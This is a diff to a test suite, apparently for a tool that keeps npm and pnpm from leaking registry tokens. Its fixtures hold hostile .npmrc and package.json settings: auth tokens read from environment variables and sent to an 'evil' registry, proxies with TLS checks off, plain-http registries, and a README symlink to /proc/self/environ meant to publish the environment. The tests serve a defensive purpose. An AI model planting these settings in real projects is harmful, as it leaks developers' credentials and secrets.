@@ -3,14 +3,14 @@
  * that the user trusts. An honest project shows that the same npm does get it.
  */
 import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
-import { mkdirSync, writeFileSync } from "node:fs";
+import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { ended, type Finished, type Laptop, registryName, startLaptop } from "../laptop.ts";
 import { requires } from "../requires.ts";
 import { names } from "../sandbox/main.ts";
 import { seedPackage } from "../sandbox/packages.ts";
 import { type HostileListener, holdsToken, startHostileListener } from "./hostile-listener.ts";
-import { npmProject, npmUserProject } from "./projects.ts";
+import { npmUserProject } from "./projects.ts";
 
 const tools = join(import.meta.dir, "../../.tools");
 const host = names.packageHost;
@@ -31,7 +31,11 @@ beforeAll(async () => {
   await seedPackage(laptop.sandbox.registries, "npm", { name: "my-lib", version: "1.0.0", files });
   for (const name of ["evil", "network"]) mkdirSync(join(laptop.folder, name));
   evil = await startHostileListener({ folder: join(laptop.folder, "evil"), host });
-  network = await startHostileListener({ folder: join(laptop.folder, "network"), host, relay: laptop.sandbox.proxyUrl });
+  network = await startHostileListener({
+    folder: join(laptop.folder, "network"),
+    host,
+    relay: laptop.sandbox.proxyUrl,
+  });
 }, 120_000);
 afterAll(async () => {
   await evil?.stop();
@@ -51,7 +55,8 @@ function run(tool: string, command: string[], files: Record<string, string>, env
   npmUserProject(folder, "my-lib");
   for (const [name, text] of Object.entries(files)) {
     mkdirSync(dirname(join(folder, name)), { recursive: true });
-    writeFileSync(join(folder, name), text);
+    if (name === "link") symlinkSync(text, join(folder, "README.md"));
+    else writeFileSync(join(folder, name), text);
   }
   return laptop.run(command, {
     cwd: folder,
@@ -119,6 +124,68 @@ const hostile: [what: string, files: () => Record<string, string>, words: RegExp
   ],
 ];
 
+/** Other files and places of the same kind, each with what is named. */
+const others: [what: string, files: () => Record<string, string>, command: string[], words: RegExp][] = [
+  [
+    "npm publish with trust in publishConfig",
+    () => ({ "package.json": manifest({ publishConfig: { "https-proxy": evil.url, "strict-ssl": false } }) }),
+    ["publish"],
+    /package\.json: publishConfig\.https-proxy/,
+  ],
+  [
+    "npm publish with plain http in publishConfig",
+    () => ({ "package.json": manifest({ publishConfig: { registry: `http://${endpoint}` } }) }),
+    ["publish"],
+    /package\.json: publishConfig\.registry .*plain http/,
+  ],
+  [
+    "npm publish of this process's environment",
+    () => ({ "package.json": manifest({}), link: "/proc/self/environ" }),
+    ["publish"],
+    /README\.md: \/proc\/.*no file of the package/,
+  ],
+  [
+    "a workspace's member",
+    () => ({
+      "package.json": manifest({ workspaces: ["packages/*"] }),
+      "packages/a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
+    }),
+    ["install"],
+    /packages\/a\/package\.json: dependencies\.x /,
+  ],
+  [
+    "a dependency in a folder",
+    () => ({
+      "package.json": manifest({ dependencies: { a: "file:./a" } }),
+      "a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
+    }),
+    ["install"],
+    /\/a\/package\.json: dependencies\.x /,
+  ],
+  [
+    "another folder by --prefix",
+    () => ({ "b/package.json": manifest({}), "b/.npmrc": `https-proxy=${evil.url}\nca=x\n` }),
+    ["--prefix", "b", "install", "my-lib"],
+    /b\/\.npmrc: ca /,
+  ],
+  [
+    "a client certificate for the registry",
+    () => ({ ".npmrc": `//${endpoint}:certfile=./c.pem\n//${endpoint}:keyfile=./k.pem\n` }),
+    ["install"],
+    /\.npmrc: \/\/.*:certfile/,
+  ],
+  ["other user settings", () => ({ ".npmrc": "userconfig=./other\n", other: "ca=x\n" }), ["install"], /userconfig/],
+  [
+    "a lock file whose host npm replaces",
+    () => ({ "npm-shrinkwrap.json": lock("http://registry.npmjs.org/my-lib/-/my-lib-1.0.0.tgz") }),
+    ["ci"],
+    /npm-shrinkwrap\.json: .*resolved/,
+  ],
+  ["the command line", () => ({}), ["install", `http://${endpoint}my-lib`], /The command line: http/],
+];
+
+const manifest = (more: object) => JSON.stringify({ name: "app", version: "1.0.0", ...more });
+
 const lock = (resolved: string) =>
   JSON.stringify({
     name: "app",
@@ -147,9 +214,13 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
   describe.skipIf(!requires(join(tools, tool, "node_modules/.bin/npm")))("is installed", () => {
     test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]), 120_000);
 
-    test.each(hostile)("gives nobody the token: %s", async (_, files, words) => {
-      expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files()), words);
-    }, 120_000);
+    test.each(hostile)(
+      "gives nobody the token: %s",
+      async (_, files, words) => {
+        expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files()), words);
+      },
+      120_000,
+    );
 
     test("gives nobody the token: plain http in a lock file", async () => {
       const files = { "package-lock.json": lock(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`) };
@@ -157,6 +228,54 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
       expectWords(finished, /package-lock\.json: packages\.node_modules\/my-lib\.resolved .*plain http/);
     }, 120_000);
   });
+});
+
+describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other ways", () => {
+  const view = ["npm", "view", "@x/nothing"];
+
+  test.each([
+    ["npm view of a scope", view],
+    ["npx of a scope", ["npx", "--yes", "@x/nothing"]],
+    ["npm publish", ["npm", "publish", "--ignore-scripts"]],
+    [
+      "vouch exec, the real npm",
+      ["vouch", "exec", "--", join(tools, "npm-11/node_modules/.bin/npm"), "view", "@x/nothing"],
+    ],
+    ["vouch exec, the shim", ["vouch", "exec", "--", ...view]],
+  ])(
+    "%s reveals no variable",
+    async (_, command) => {
+      const own = `@x:registry=${evil.url}/npm/\n`;
+      for (const name of [variable, "CODEARTIFACT_AUTH_TOKEN", "TWINE_PASSWORD", "PIP_INDEX_URL", "VOUCH_SHIM_TRAIL"]) {
+        const form = `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`;
+        const manifest = JSON.stringify({ name: "@x/mine", version: "1.0.0" });
+        await run("npm-11", command, { ".npmrc": form, "package.json": manifest });
+      }
+      expect(evil.requests.length).toBeGreaterThan(0);
+    },
+    120_000,
+  );
+
+  test.each(others)(
+    "%s",
+    async (_, files, command, words) => {
+      const finished = await run("npm-11", ["npm", ...command, "--ignore-scripts"], files());
+      expectWords(finished, words);
+      expect(finished.exitCode).not.toBe(0);
+    },
+    120_000,
+  );
+
+  test("vouch exec refuses in words", async () => {
+    const finished = await run("npm-11", ["vouch", "exec", "--", "npx", "my-lib"], { ".npmrc": "ca=x\n" });
+    expectWords(finished, /npm gets no token here: .*\.npmrc: ca /);
+    expect(finished.exitCode).toBe(1);
+  });
+
+  test("an honest publish from an honest project", async () => {
+    const files = { "package.json": manifest({ name: "honest", publishConfig: { access: "public", tag: "latest" } }) };
+    await ended(run("npm-11", ["npm", "publish"], files));
+  }, 120_000);
 });
 
 describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
@@ -168,10 +287,14 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
 
     test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]), 120_000);
 
-    test.each(hostile)("gives nobody the token: %s", async (_, files, words) => {
-      const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files());
-      if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
-    }, 120_000);
+    test.each(hostile)(
+      "gives nobody the token: %s",
+      async (_, files, words) => {
+        const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files());
+        if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
+      },
+      120_000,
+    );
 
     test("gives nobody the token: pnpm's own variable", async () => {
       const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
